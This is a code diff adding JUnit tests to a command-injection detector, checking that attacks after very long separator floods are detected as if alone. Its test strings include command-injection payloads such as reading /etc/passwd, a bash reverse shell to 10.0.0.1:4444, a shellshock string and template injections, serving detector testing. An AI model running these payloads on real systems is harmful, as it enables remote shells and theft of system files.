@@ -333,6 +333,44 @@ class CmdiDetectorTest {
     assertNull(detect(flood + "\nrock & roll"), unit);
   }
 
+  @ParameterizedTest
+  @ValueSource(strings = {"a(b)c;d|e&sh'f", "${7*7}", "#set($", "eval(", "a.system('x", "\\nX:", ";X:\\a", "{7", "/x",
+      ";d", "|e", "\nd", "\\nd", "(d;"})
+  void anAttackAfterAFloodOfSeparatorsBeforeNoCommandIsFoundAsItIsAlone(String unit) {
+    // a separator before a word of one character is judged from the character after it, one before a Windows
+    // path by windowsBinary alone, and the other triggers of these floods as before; the attack after the
+    // flood, with a benign neighbour, is read as it is alone
+    String flood = unit.repeat(100_000 / unit.length());
+    for (String attack : new String[] {" ;cat${IFS}/etc/passwd", " {${system('id')}}", " system('cat /etc/passwd')",
+        " {cat,/etc/passwd}", " /bin/sh -c id", " bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", " () { :;}; /bin/id",
+        " $(whoami)", " eval(base64_decode($x))", " ; C:\\Windows\\System32\\cmd.exe /c whoami"}) {
+      String value = attack + " (see the Q&A; page 3)";
+      Detection alone = detect(value);
+      assertNotNull(alone, value);
+      Detection d = detect(flood + value);
+      assertNotNull(d, () -> unit + " then " + value);
+      assertEquals(alone.ruleId(), d.ruleId(), () -> unit + " then " + value);
+      assertEquals(alone.score(), d.score(), () -> unit + " then " + value);
+    }
+    assertNull(detect(flood), unit);
+    assertNull(detect(flood + Floods.EVERY_LETTER), unit);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"\\nX:", "\\n", ";", "x;", "\\nX"})
+  void whetherProseComesBeforeALineBreakAfterAFloodIsAnsweredAsAfterAFewUnits(String unit) {
+    // prose is looked for from the first blank on, with the word before that blank read back: the flood before
+    // it is not read, and a line break after the blank is judged as after a short value of the same units
+    String flood = unit.repeat(100_000 / unit.length());
+    String few = unit.repeat(3);
+    for (String tail : new String[] {" \\ncat /etc/passwd", " \nuname -a", " ok \\nid", "\\n cat /etc/passwd",
+        " \\n; C:\\Windows\\System32\\cmd.exe /c whoami", Floods.EVERY_LETTER + "\\nX:\\nid"}) {
+      Detection expected = detect(few + tail);
+      Detection d = detect(flood + tail);
+      assertEquals(expected == null ? null : expected.ruleId(), d == null ? null : d.ruleId(), () -> unit + tail);
+    }
+  }
+
   @Test
   void aCallThatRunsCodeAfterAFloodOfCallsIsFound() {
     int size = 100_000;
